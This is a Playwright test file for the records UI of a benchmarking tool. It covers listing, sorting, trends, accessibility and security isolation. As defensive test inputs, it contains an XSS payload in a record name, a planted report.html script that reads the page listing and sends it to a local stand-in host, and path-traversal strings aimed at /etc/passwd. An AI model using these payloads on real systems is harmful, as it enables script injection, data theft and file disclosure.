import { once } from 'node:events';
import { cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, get as httpGet, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser } from '../../bench/chromium.js';
import { writeRecord } from '../../reports/write.js';
import { type RecordsServer, serveRecords } from '../../ui/records-server.js';
import { accessibilityFaults, tabStops } from '../fixtures/page-checks.js';
import { recordFixture, writeRecordFolder } from '../fixtures/record.js';
import { testFolder } from '../support/folder.js';

const EVIL = '"><img src=x onerror=alert(1)>';
let browser: Browser;
let server: RecordsServer;
let root: string;
let page: Page;
const said: string[] = [];
const requested: string[] = [];

/** `nightly` holds four runs of one thing, and beside it are one alone and what is no record any more. */
beforeAll(async () => {
  browser = await launchBrowser();
  root = await mkdtemp(join(tmpdir(), 'c2m-records-'));
  const { record, samples, latencyLog } = recordFixture();
  const whole = await writeRecordFolder({ record, samples, latencyLog });
  const put = async (path: string, day: number, change: (copy: typeof record) => void = () => undefined) => {
    const folder = join(root, path);
    await cp(whole, folder, { recursive: true });
    const copy = structuredClone(record);
    copy.startedAt = `2026-03-${String(day).padStart(2, '0')}T09:00:00.000Z`;
    copy.id = path;
    change(copy);
    await writeRecord(folder, copy);
  };
  for (const day of [1, 2, 3, 4]) {
    await put(`nightly/00${day}`, day, (copy) => {
      copy.latency.delivered.p99 = 10 * day;
    });
  }
  await put('one-alone', 9, (copy) => {
    copy.name = EVIL;
    copy.verdict = 'failed';
  });
  await rm(join(root, 'one-alone', 'latency.hlog'));
  await mkdir(join(root, 'torn'));
  await writeFile(join(root, 'torn', 'run.json'), '{"schema": "c2m.run/1"');
  await mkdir(join(root, 'no-record'));
  await writeFile(join(root, 'no-record', 'notes.txt'), 'x');
  await rm(whole, { recursive: true });
  server = await serveRecords(root, 0);
  page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  page.setDefaultTimeout(10_000);
  page.on('console', (message) => said.push(`${message.type()}: ${message.text()}`));
  page.on('request', (request) => requested.push(new URL(request.url()).host));
  await page.goto(server.address);
  await page.waitForSelector('#runs');
});
afterAll(async () => {
  await browser.close();
  await server.close();
  await rm(root, { recursive: true });
});

const home = (): string => new URL('.', server.address).href;
const rows = (): Promise<string[]> => page.locator('#runs tbody th').allInnerTexts();

/** With a path that no browser has put in order. */
async function rawAnswer(path: string): Promise<{ status: number | undefined; text: string }> {
  const { port, pathname, searchParams } = new URL(server.address);
  const headers = { cookie: `c2m-page=${searchParams.get('token')}` };
  const call = httpGet({ host: '127.0.0.1', port, path: `${pathname}${path}`, headers });
  const [response] = (await once(call, 'response')) as [IncomingMessage];
  let text = '';
  for await (const chunk of response.setEncoding('utf8')) text += chunk;
  return { status: response.statusCode, text };
}

describe('c2m ui', () => {
  test('lists the records below a folder, sets too, the newest first, and says which are damaged', async () => {
    await page.goto(home());
    const names = (await rows()).map((text) => text.split('\n')[0]);
    expect(names).toEqual(['one-alone', 'nightly/004', 'nightly/003', 'nightly/002', 'nightly/001', 'torn']);
    expect(await page.locator('#sets tbody th').allInnerTexts()).toEqual(['nightly']);
    expect(await page.locator('#runs tbody tr', { hasText: 'one-alone' }).innerText()).toContain(
      'latency.hlog missing',
    );
    const torn = page.locator('#runs tbody tr', { hasText: 'torn' });
    expect(await torn.innerText()).toMatch(/torn\/run\.json is not JSON: [\s\S]*damaged/);
    expect(await torn.locator('a').count()).toBe(0);
  });

  test('searches, and sorts by any column, forwards and backwards', async () => {
    await page.goto(home());
    await page.fill('#q', 'nightly passed');
    await page.keyboard.press('Enter');
    await expect.poll(rows).toEqual(['nightly/004', 'nightly/003', 'nightly/002', 'nightly/001']);
    await page.click('#runs thead a:has-text("delivered p99")');
    await page.click('#runs thead a:has-text("delivered p99")');
    expect(await rows()).toEqual(['nightly/001', 'nightly/002', 'nightly/003', 'nightly/004']);
    expect(await page.locator('#runs thead th[aria-sort]').innerText()).toContain('delivered p99');
    await page.fill('#q', 'nobody');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('#runs .empty').innerText()).toBe('No record has all these words.');
  });

  test('opens the report of each, which can reach nothing but itself', async () => {
    await page.goto(home());
    await page.click('#runs a:has-text("nightly/002")');
    await page.waitForSelector('#chart-connections canvas');
    expect(await page.locator('.verdict').textContent()).toBe('Passed');
    expect(await page.evaluate('self.origin')).toBe('null');
    expect(
      await page.evaluate('(() => { try { return document.cookie; } catch { return "none"; } })()'),
    ).toBe('none');
  });

  test('shows what the data of a record say, and nothing of a report.html that somebody has put beside them', async () => {
    const visits: string[] = [];
    const elsewhere = createServer((request, response) => {
      visits.push(request.url ?? '');
      response.end('<!doctype html><title>elsewhere</title>');
    });
    await once(elsewhere.listen(0, '127.0.0.1'), 'listening');
    const { port } = elsewhere.address() as AddressInfo;
    const folder = join(root, 'nightly', '003');
    const own = await readFile(join(folder, 'report.html'));
    try {
      // With the cookie of whoever opens it, such a file would read the list, and tell it elsewhere.
      await writeFile(
        join(folder, 'report.html'),
        `<!doctype html><title>Passed</title><script>
          const away = (what) => { top.location.href = 'http://127.0.0.1:${port}/?' + encodeURIComponent(what); };
          fetch('${home()}').then((list) => list.text()).then(away, () => away('nothing could be read'));
        </script>`,
      );
      await page.goto(home());
      await page.click('#runs a:has-text("nightly/003")');
      await page.waitForSelector('#chart-connections canvas');
      expect(await page.locator('.verdict').textContent()).toBe('Passed');
      expect(new URL(page.url()).href).toContain(`${home()}report/`);
      const reading = `fetch('${home()}').then(() => 'read', () => 'refused')`;
      expect(await page.evaluate(reading)).toBe('refused');
      expect(visits).toEqual([]);
    } finally {
      await writeFile(join(folder, 'report.html'), own);
      said.splice(0);
      elsewhere.closeAllConnections();
      elsewhere.close();
    }
  });

  test('draws the trend of any figure over the runs that are found or ticked', async () => {
    await page.goto(home());
    await page.fill('#metric', 'backlog.queues.mailboxes.max');
    expect(await page.locator('#metrics option[value="backlog.queues.mailboxes.max"]').count()).toBe(1);
    await page.click('button:has-text("Draw its trend")');
    expect(await page.locator('#trend h1').innerText()).toBe('queue length, highest');
    expect(await page.locator('.trend circle').count()).toBe(5);

    await page.goto(home());
    await page.check('input[aria-label="nightly as base"]');
    await page.click('button:has-text("Draw its trend")');
    expect(await page.locator('#values tbody td.figure').allInnerTexts()).toEqual([
      '40 ms',
      '30 ms',
      '20 ms',
      '10 ms',
    ]);
    expect(await page.locator('.trend').getAttribute('aria-label')).toContain('From 10 ms to 40 ms.');
    await page.fill('#metric', 'connections.peak');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('#trend h1').innerText()).toBe('peak connections');
    expect(await page.locator('.trend circle').count()).toBe(4);
    await page.fill('#metric', 'no.such.figure');
    await page.keyboard.press('Enter');
    await expect
      .poll(() => page.locator('#trend .empty').innerText())
      .toBe('None of these runs has this figure.');
  });

  test('compares those that are ticked, as c2m compare does', async () => {
    await page.goto(home());
    await page.check('input[aria-label="nightly/001 as base"]');
    await page.check('input[aria-label="nightly/002 as base"]');
    await page.check('input[aria-label="nightly/003 as current"]');
    await page.check('input[aria-label="nightly/004 as current"]');
    await page.click('text=Compare those ticked');
    expect(await page.locator('#outcome').innerText()).toContain('base: nightly, 2 runs, passed');
    const row = page.locator('#figures tbody tr', { has: page.locator('th:text-is("delivered p99")') });
    expect(await row.innerText()).toContain('15 ms (10 ms to 20 ms)');
    await page.click('text=all runs');
    expect(page.url()).toBe(home());
    await page.click('text=Compare those ticked');
    expect(await page.locator('main').innerText()).toContain('Tick at least one run or set as base');
  });

  test('is used by keyboard alone: every stop has a name and is seen', async () => {
    await page.goto(home());
    const stops = await tabStops(page, 12);
    expect(stops.map(({ name }) => name).slice(0, 5)).toEqual(['q', 'sort', 'order', 'Show', 'nightly']);
    expect(stops.filter(({ isSeen }) => !isSeen)).toEqual([]);
    await page.locator('input[aria-label="nightly as base"]').focus();
    await page.keyboard.press('Space');
    expect(await page.isChecked('input[aria-label="nightly as base"]')).toBe(true);
  });

  test.each(['', 'trend?metric=latency.delivered.p99', 'trend?metric=nothing', 'compare?', 'comparison'])(
    'breaks no rule of accessibility and fits a phone: /%s',
    async (path) => {
      if (path === 'comparison') {
        await page.goto(home());
        await page.check('input[aria-label="nightly as base"]');
        await page.check('input[aria-label="one-alone as current"]');
        await page.click('text=Compare those ticked');
      } else await page.goto(`${home()}${path}`);
      expect(await accessibilityFaults(page)).toEqual([]);
      await page.setViewportSize({ width: 390, height: 844 });
      await page.emulateMedia({ colorScheme: 'dark' });
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
      expect(await accessibilityFaults(page)).toEqual([]);
      expect(await page.locator('img').count()).toBe(0);
      await page.emulateMedia({ colorScheme: 'light' });
      await page.setViewportSize({ width: 1280, height: 900 });
    },
  );

  test('tells when a run started on one line', async () => {
    await page.goto(home());
    const lines = (await page.evaluate(
      `[...document.querySelectorAll('#runs .started')].map((date) => date.getClientRects().length)`,
    )) as number[];
    expect(lines.length).toBeGreaterThan(3);
    expect(new Set(lines)).toEqual(new Set([1]));
  });

  test('prints what there is to read, and nothing that is there to be pressed', async () => {
    await page.goto(home());
    await page.emulateMedia({ media: 'print' });
    expect(await page.locator('button:visible, input:visible, select:visible').count()).toBe(0);
    expect(await page.locator('#runs tbody th:visible').count()).toBeGreaterThan(3);
    await page.emulateMedia({ media: 'screen' });
  });

  test('has both boxes of a run on one line of a phone', async () => {
    await page.goto(home());
    await page.setViewportSize({ width: 390, height: 844 });
    const [base, current] = await Promise.all(
      ['base', 'current'].map((side) =>
        page.locator(`input[aria-label="nightly/001 as ${side}"]`).boundingBox(),
      ),
    );
    expect(base?.y).toBe(current?.y);
    await page.setViewportSize({ width: 1280, height: 900 });
  });

  test('runs nothing that a record smuggles in, and asks no other host for anything', async () => {
    await page.goto(home());
    expect(await page.locator('#runs tbody tr', { hasText: 'one-alone' }).innerText()).toContain(EVIL);
    expect(await page.locator('img').count()).toBe(0);
    expect(new Set(requested)).toEqual(new Set([new URL(server.address).host]));
    expect(said.filter((words) => !words.includes('400 (Bad Request)'))).toEqual([]);
  });

  test('serves nothing that is not a report of a record below the folder', async () => {
    const outside = testFolder();
    await writeFile(join(outside, 'report.html'), 'secret');
    await writeFile(join(outside, 'run.json'), 'secret');
    await symlink(outside, join(root, 'linked'));
    await mkdir(join(root, 'sly'));
    await cp(join(root, 'nightly', '001', 'run.json'), join(root, 'sly', 'run.json'));
    await symlink(join(outside, 'report.html'), join(root, 'sly', 'report.html'));
    // What was listed a moment ago is as good as new.
    await expect.poll(async () => (await rawAnswer('')).text, { interval: 200 }).toContain('>sly<');
    await page.goto(home());
    const names = (await rows()).map((text) => text.split('\n')[0]);
    expect(names).toContain('sly');
    expect(names.join()).not.toContain('linked');
    const href = (await page.locator('#runs a:text-is("sly")').getAttribute('href')) as string;
    const report = await page.goto(`${home()}${href}`);
    expect(await report?.text()).not.toContain('secret');
    for (const path of [
      '..%2f..%2fetc%2fpasswd',
      '../../etc/passwd',
      '/etc/passwd',
      'linked',
      'nightly%2f001',
      'x'.repeat(900),
    ]) {
      const { status, text } = await rawAnswer(`report/${path}`);
      expect([403, 404], path).toContain(status);
      expect(text).not.toContain('root:x:');
    }
  });
});
